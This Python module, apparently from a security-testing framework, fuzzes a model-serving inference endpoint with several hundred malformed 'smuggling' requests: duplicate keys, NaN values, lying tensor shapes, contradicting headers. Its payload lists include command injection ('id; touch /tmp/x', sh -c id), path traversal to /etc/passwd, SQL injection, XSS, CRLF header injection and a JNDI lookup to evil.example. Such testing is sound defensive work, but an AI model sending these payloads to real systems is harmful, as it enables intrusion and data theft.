"""Requests that mean more than one thing: see `SmuggleFields`."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import islice
from random import Random
from typing import Any, ClassVar

from hauberk.core.attack import Play, Transcript
from hauberk.core.threat import ThreatId
from hauberk.formats.http import Answer, Call, ServedModel

_REFUSALS = range(400, 500)

_KEYS = (
    "__proto__", "constructor", "prototype", "__class__", "command", "exec", "cmd", "eval",
    "system", "tools", "function_call", "admin", "role", "user", "debug", "model", "weights",
    "path", "file", "url", "callback", "$where", "template", "sql",
)  # fmt: skip
_VALUES: tuple[Any, ...] = (
    "id; touch /tmp/x",
    {"polluted": True},
    {"command": {"run": ["sh", "-c", "id"]}},
    ["../../etc/passwd"],
    True,
    10**6,
    None,
)
_LITERALS = ("NaN", "Infinity", "-Infinity", "1e999", "-1e999")
_CONFUSED: tuple[Any, ...] = (
    "1", "NaN", "", True, False, None, {}, {"$gt": 0}, [], [1], "1; DROP TABLE x", "0x1p-2",
)  # fmt: skip
_HUGE = (
    10**20,
    -(10**20),
    10**39,
    -(10**39),
    10**60,
    10**100,
    10**308,
    -(10**308),
    2**127,
    2**1000,
)
_SHAPES: tuple[Any, ...] = (
    True, "1", 1.0, None, -1, 0, 10**9, 10**19, [1], {"n": 1}, 1.5, "-1",
)  # fmt: skip
_DATATYPES: tuple[Any, ...] = (
    "fp32", "FLOAT", "float32", "FP64", "FP16", "INT64", "INT8", "UINT8", "BOOL", "BYTES",
    "OBJECT", "pickle", "", None, 1, ["FP32"], {"type": "FP32"}, "FP32 ", "FP32\x00",
)  # fmt: skip
_NAMES: tuple[Any, ...] = (
    "admin", "x ", " x", "x\x00", "\u0445", "x\u200b", "X", "../x", "x;y", "", None, 1, ["x"],
    "x" * 5000, "<script>", "x\r\nSet-Cookie: a=b", "__class__", "label", "scores",
)  # fmt: skip
_TYPES = (
    "text/plain", "application/xml", "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x", "application/x-msgpack", "application/octet-stream",
    "application/x-python-pickle", "application/vnd.apache.arrow.stream", "text/html",
    "application/json; charset=utf-7", "application/json; charset=utf-16", "application/json5",
    "application/json, text/html", "application/graphql", "*/*", "",
)  # fmt: skip
_IDS: tuple[Any, ...] = (
    "a\r\nX-Injected: 1", "\x1b[2J", "<script>alert(1)</script>", "a" * 100_000, ["a"], {"a": 1},
    1, True, "\x00", "'; DROP TABLE runs; --", "${jndi:ldap://evil.example/a}", "\u202egnp.exe",
)  # fmt: skip
_HEADERS = (
    *(("x-http-method-override", method) for method in ("GET", "PUT", "DELETE", "PATCH")),
    *(("x-method-override", method) for method in ("GET", "DELETE")),
    ("x-http-method", "DELETE"),
    *(("content-encoding", coding) for coding in ("gzip", "deflate", "br", "zstd", "x-gzip")),
    *(("inference-header-content-length", n) for n in ("0", "1", "-1", "99999999", "0x10", "1e3")),
    ("content-type", "text/html"),  # a second one
    ("content-length", "1"),
)
_QUERIES = ("model=other", "debug=true", "version=0", "callback=f", "_method=DELETE", "x=1&x=2")


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """One smuggling request."""

    name: str
    call: Call


@dataclass(frozen=True, slots=True, kw_only=True)
class SmuggleFields(Play[ServedModel]):
    """Hide fields, values and meanings in requests that still look like requests.

    From a sample request that is answered, a few hundred variants are made, each with one
    thing too many or of the wrong kind: unknown and prototype keys on every level, nested
    command fields, keys that stand twice (plainly and with escapes), NaN and infinity, strings
    and objects for numbers, huge integers, shapes that lie, other datatypes and names, stray
    inputs and outputs, identifiers with line ends, headers that contradict the body, other
    encodings, raw tensors that lie about their size. A variant has succeeded when the server
    answers it, or breaks on it; a 4xx is a refusal.

    Args:
        first: Number of the first variant to send.
        count: How many to send; the number of variants stays below 500.

    References:
        Open Inference Protocol v2. Jake Miller, 2021, "An Exploration & Remediation of JSON
        Interoperability Vulnerabilities", for duplicate keys and numbers. CWE-444, CWE-20.
    """

    title: ClassVar[str] = "Smuggle fields past the schema"
    threats: ClassVar[tuple[ThreatId, ...]] = (ThreatId("IN-4"),)
    subject: ClassVar[type] = ServedModel

    first: int = 0
    count: int = 500

    def play(self, target: ServedModel, rng: Random) -> Transcript:
        """Send the chosen variants one after the other."""
        cases = list(islice(variants(target, rng), self.first, self.first + self.count))
        answers = [(case, target.door.call(case.call)) for case in cases]
        passed = [case.name for case, answer in answers if not is_refusal(answer)]
        return Transcript(
            succeeded=bool(passed),
            queries=len(cases),
            facts={
                "passed": passed,
                "statuses": [answer.status for _, answer in answers],
                "seconds": [answer.seconds for _, answer in answers],
            },
        )


def is_refusal(answer: Answer) -> bool:
    """Whether the server said no in so many words."""
    return answer.status in _REFUSALS


def variants(target: ServedModel, rng: Random) -> Iterator[Case]:
    """All variants of the sample, in a fixed order."""
    for kind, make in _MAKERS:
        for number, call in enumerate(make(target, rng)):
            yield Case(name=f"{kind} {number}", call=call)


# Makers of variants --------------------------------------------------------------------

Maker = Callable[[ServedModel, Random], Iterator[Call]]


def _call(target: ServedModel, body: bytes, *headers: tuple[str, str], kind: str = "") -> Call:
    first = (("content-type", kind or "application/json"),)
    return Call(path=target.path, headers=(*first, *headers), chunks=(body,))


def _sent(target: ServedModel, value: Any) -> Call:
    return _call(target, json.dumps(value).encode())


def _top(target: ServedModel, **fields: Any) -> Call:
    """The sample with other or further fields on the top level."""
    return _sent(target, json.loads(target.sample) | fields)


def _tensor(target: ServedModel, **fields: Any) -> Call:
    """The sample with other or further fields in its first tensor."""
    top = json.loads(target.sample)
    top["inputs"][0] |= fields
    return _sent(target, top)


def _unknown_keys(target: ServedModel, rng: Random) -> Iterator[Call]:
    for key in _KEYS:
        item = rng.choice(_VALUES)
        yield _top(target, **{key: item})
        yield _tensor(target, **{key: item})
        yield _top(target, parameters={key: "x" if item is None else item})
        yield _tensor(target, parameters={key: "x" if item is None else item})


def _twice(target: ServedModel, rng: Random) -> Iterator[Call]:
    del rng
    text = target.sample.decode()
    tensor = json.dumps(json.loads(text)["inputs"][0])
    for key, value in (("inputs", "[]"), ("id", '"a"'), ("parameters", "{}"), ("outputs", "[]")):
        for spelling in (key, f"\\u{ord(key[0]):04x}{key[1:]}"):
            pair = f'"{spelling}":{value},'
            again = f'"{key}":{value},' if key != "inputs" else ""
            yield _call(target, ("{" + pair + again + text.lstrip()[1:]).encode())
    for key in ("name", "shape", "datatype", "data"):
        for spelling in (key, f"\\u{ord(key[0]):04x}{key[1:]}"):
            value = json.dumps(json.loads(tensor)[key])
            doubled = "{" + f'"{spelling}":{value},' + tensor[1:]
            yield _call(target, ('{"inputs":[' + doubled + "]}").encode())


def _with_value(target: ServedModel, literal: str, rng: Random) -> Call:
    """The sample with one value replaced by a literal that JSON libraries may not know."""
    top = json.loads(target.sample)
    data = top["inputs"][0]["data"]
    data[rng.randrange(len(data))] = "\x00here"
    return _call(target, json.dumps(top).replace('"\\u0000here"', literal).encode())


def _no_numbers(target: ServedModel, rng: Random) -> Iterator[Call]:
    for literal in _LITERALS:
        yield _with_value(target, literal, rng)
        yield _with_value(target, f"[{literal}]", rng)
        yield _with_value(target, f'{{"value":{literal}}}', rng)


def _confused(target: ServedModel, rng: Random) -> Iterator[Call]:
    for value in _CONFUSED:
        yield _with_value(target, json.dumps(value), rng)
        yield _tensor(target, data=value)
    for value in ({}, {"0": {}}, "x", 1, None, True):
        yield _top(target, inputs=value)
        yield _top(target, inputs=[value])


def _huge(target: ServedModel, rng: Random) -> Iterator[Call]:
    for number in _HUGE:
        yield _with_value(target, str(number), rng)


def _shapes(target: ServedModel, rng: Random) -> Iterator[Call]:
    del rng
    shape = json.loads(target.sample)["inputs"][0]["shape"]
    for value in _SHAPES:
        yield _tensor(target, shape=[value, *shape[1:]])
    for wrong in ([], shape[::-1], [*shape, 1], [1, *shape], [2 * shape[0], *shape[1:]], "1,2", 2):
        yield _tensor(target, shape=wrong)


def _datatypes(target: ServedModel, rng: Random) -> Iterator[Call]:
    del rng
    for value in _DATATYPES:
        yield _tensor(target, datatype=value)


def _names(target: ServedModel, rng: Random) -> Iterator[Call]:
    del rng
    inputs = json.loads(target.sample)["inputs"]
    for value in _NAMES:
        yield _tensor(target, name=value)
        yield _top(target, inputs=[*inputs, inputs[0] | {"name": value}])
    yield _top(target, inputs=[*inputs, inputs[0]])
    for output in ("weights", "", None, 1, "<b>", "label\x00"):
        yield _top(target, outputs=[{"name": output}])


def _ids(target: ServedModel, rng: Random) -> Iterator[Call]:
    del rng
    for value in _IDS:
        yield _top(target, id=value)


def _envelopes(target: ServedModel, rng: Random) -> Iterator[Call]:
    del rng
    for kind in _TYPES:
        headers = (("content-type", kind),) if kind else ()
        yield Call(path=target.path, headers=headers, chunks=(target.sample,))
    for header in _HEADERS:
        yield _call(target, target.sample, header)
    for query in _QUERIES:
        yield Call(
            path=f"{target.path}?{query}",
            headers=(("content-type", "application/json"),),
            chunks=(target.sample,),
        )


def _encodings(target: ServedModel, rng: Random) -> Iterator[Call]:
    del rng
    text = target.sample.decode()
    for encoding in ("utf-8-sig", "utf-16", "utf-16-le", "utf-32"):
        yield _call(target, text.encode(encoding))


def _raw(target: ServedModel, rng: Random) -> Iterator[Call]:
    """Raw tensors: NaN among the numbers, bytes too many, sizes that lie."""
    top = json.loads(target.sample)
    tensor = top["inputs"][0]
    n_values = len(tensor.pop("data"))
    zeros, nan = bytes(4 * n_values), bytes(4 * n_values - 2) + b"\xc0\x7f"
    sizes = (4 * n_values, 4 * n_values, 4 * n_values + 4, 4 * n_values - 1, -1, 10**12)
    tails = (nan, zeros + b"hidden", zeros, zeros, zeros, zeros)
    del rng
    for size, tail in zip(sizes, tails, strict=True):
        tensor["parameters"] = {"binary_data_size": size}
        header = json.dumps(top).encode()
        length = ("inference-header-content-length", str(len(header)))
        yield _call(target, header + tail, length)


_MAKERS: tuple[tuple[str, Maker], ...] = (
    ("unknown key", _unknown_keys),
    ("key that stands twice", _twice),
    ("no number", _no_numbers),
    ("confused type", _confused),
    ("huge integer", _huge),
    ("lying shape", _shapes),
    ("other datatype", _datatypes),
    ("other name", _names),
    ("strange identifier", _ids),
    ("contradicting envelope", _envelopes),
    ("other encoding", _encodings),
    ("lying raw tensor", _raw),
)
